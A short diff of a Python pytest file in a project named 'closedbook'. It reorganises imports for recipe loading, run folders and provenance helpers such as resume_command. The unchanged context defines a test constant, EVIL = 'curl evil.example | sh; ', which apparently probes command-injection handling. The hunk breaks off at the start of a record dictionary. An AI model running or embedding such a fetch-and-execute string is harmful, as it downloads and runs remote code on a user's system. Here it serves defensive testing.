@@ -8,9 +8,10 @@ from typing import Any
 
 import pytest
 
-from closedbook.config.schema import load_recipe
+from closedbook.config.loading import load_recipe
 from closedbook.export.model_card import card
-from closedbook.runs.folder import RunFolder, mixer_option, resume_command
+from closedbook.runs.folder import RunFolder
+from closedbook.runs.provenance import mixer_option, resume_command
 
 EVIL = "curl evil.example | sh; "
 RECORD: dict[str, Any] = {
